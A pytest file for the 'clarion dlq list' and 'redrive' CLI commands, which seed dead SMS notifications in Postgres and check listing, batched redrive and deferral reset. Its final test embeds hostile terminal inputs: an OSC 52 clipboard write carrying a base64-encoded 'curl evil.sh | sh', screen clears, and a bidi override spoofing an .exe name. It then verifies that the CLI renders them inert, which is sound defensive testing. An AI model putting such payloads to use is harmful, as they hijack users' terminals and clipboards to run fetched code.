"""``clarion dlq list|redrive`` as a real OS process against the session database."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from uuid import UUID

import asyncpg
import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import AsyncEngine

from clarion.pg import asyncpg_dsn
from clarion.settings import Settings
from harness.services import ROOT, settings_env
from schema.ids import uuid7
from tests.conftest import TenantInfo

DEAD = """
INSERT INTO notifications (id, tenant_id, event_id, request_hash, user_id, channel, category, priority,
                           data, status, attempts, provider, error_code, error_message, history)
SELECT id, $1, event_id, 'x', $2, 'sms', 'orders', 'normal', '{}'::jsonb, 'dead', 5, $3, $4, $5, '[]'::jsonb
  FROM unnest($6::uuid[], $7::text[]) AS v(id, event_id)
"""


async def dead_notifications(
    settings: Settings,
    tenant: TenantInfo,
    count: int,
    provider: str,
    code: str,
    *,
    message: str = "provider said no",
    external_id: str = "u-dlq",
    event_ids: list[str] | None = None,
) -> list[UUID]:
    """``count`` dead SMS of ``tenant`` to user ``external_id``, their event ids ``evt-<id>`` unless given."""
    ids = [uuid7() for _ in range(count)]
    conn = await asyncpg.connect(asyncpg_dsn(settings.database_url))
    try:
        user_id = await conn.fetchval(
            "INSERT INTO users (id, tenant_id, external_id, phone) VALUES ($1, $2, $3, '+14155550100')"
            " ON CONFLICT ON CONSTRAINT uq_users_tenant_external DO UPDATE SET phone = EXCLUDED.phone RETURNING id",
            uuid7(),
            tenant.id,
            external_id,
        )
        events = event_ids or [f"evt-{i}" for i in ids]
        await conn.execute(DEAD, tenant.id, user_id, provider, code, message, ids, events)
    finally:
        await conn.close()
    return ids


async def clarion(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    env = settings_env(settings)
    env.pop("CLARION_KAFKA_BOOTSTRAP")  # the relay publishes what a redrive re-queues
    return await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "commands.cli", *args],
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )


async def statuses(engine: AsyncEngine, ids: list[UUID]) -> dict[str, int]:
    async with engine.connect() as conn:
        rows = (
            await conn.execute(
                sa.text("SELECT status, attempts FROM notifications WHERE id = ANY(:ids)"), {"ids": ids}
            )
        ).all()
    counts: dict[str, int] = {}
    for status, attempts in rows:
        key = f"{status}/{attempts}"
        counts[key] = counts.get(key, 0) + 1
    return counts


@pytest.fixture
async def dead_sms(settings: Settings, tenant: TenantInfo) -> tuple[list[UUID], list[UUID]]:
    twilio = await dead_notifications(settings, tenant, 1200, "twilio", "20500")
    other = await dead_notifications(settings, tenant, 3, "twilio", "21211")
    return twilio, other


async def test_dlq_list_prints_dead_notifications_with_their_last_error(
    settings: Settings, tenant: TenantInfo, dead_sms: tuple[list[UUID], list[UUID]]
) -> None:
    done = await clarion(settings, "dlq", "list", "sms", "--tenant", tenant.id, "--limit", "5", "--json")

    assert done.returncode == 0, done.stderr
    items = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(items) == 5
    assert all(i["error"]["message"] == "provider said no" and i["provider"] == "twilio" for i in items)


async def test_dlq_redrive_requeues_the_filtered_subset_with_a_progress_bar(
    settings: Settings, engine: AsyncEngine, tenant: TenantInfo, dead_sms: tuple[list[UUID], list[UUID]]
) -> None:
    matching, other = dead_sms
    async with engine.begin() as conn:  # as if they had died deferred too often (workers/render_deferral.py)
        await conn.execute(
            sa.text("UPDATE notifications SET deferrals = 20 WHERE id = ANY(:ids)"), {"ids": matching}
        )

    done = await clarion(settings, "dlq", "redrive", "sms", "--tenant", tenant.id, "--error-code", "20500")

    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {"requeued": 1200, "published": 0, "remaining": 0}
    assert "redrive [" in done.stderr and "1200/1200" in done.stderr
    assert "1000/1200" in done.stderr, "progress is reported per batch"
    after = await statuses(engine, matching)
    assert "dead/5" not in after and sum(after.values()) == 1200
    async with engine.connect() as conn:
        deferrals = (
            await conn.execute(
                sa.text("SELECT DISTINCT deferrals FROM notifications WHERE id = ANY(:ids)"),
                {"ids": matching},
            )
        ).scalars()
        assert list(deferrals) == [0], "a redriven notification may be deferred again as often as a new one"
    assert await statuses(engine, other) == {"dead/5": 3}


# A tenant's event id and user id (the API takes any characters in them) and a provider's answer,
# each carrying what a terminal acts on: an OSC 52 clipboard write (7-bit and C1), a screen clear,
# a bidi override that would reorder the rest of the line.
HOSTILE_EVENT = "order-1\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9d52;c;eA==\x9c\u202e"
HOSTILE_USER = "u-\u202egnp.exe\x1b[2J"
HOSTILE_ANSWER = "throttled\x1b[2J\x1b]52;c;eA==\x07\u202eok"
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9c", "\x9d", "\u202e")


async def test_dlq_list_never_prints_what_a_terminal_would_act_on(
    settings: Settings, tenant: TenantInfo
) -> None:
    await dead_notifications(
        settings,
        tenant,
        1,
        "twilio",
        "20429",
        message=HOSTILE_ANSWER,
        external_id=HOSTILE_USER,
        event_ids=[HOSTILE_EVENT],
    )

    text = await clarion(settings, "dlq", "list", "sms", "--tenant", tenant.id)
    lines = await clarion(settings, "dlq", "list", "sms", "--tenant", tenant.id, "--json")

    assert text.returncode == 0 and lines.returncode == 0, text.stderr + lines.stderr
    for out in (text.stdout, lines.stdout):
        assert not [c for c in TERMINAL_CONTROLS if c in out], repr(out)
    assert "20429: throttled\\x1b[2J\\x1b]52;c;eA==\\x07\\u202eok" in text.stdout  # shown, inert
    item = json.loads(lines.stdout)
    assert (item["event_id"], item["user_id"]) == (HOSTILE_EVENT, HOSTILE_USER)  # the same values
    assert item["error"]["message"] == HOSTILE_ANSWER
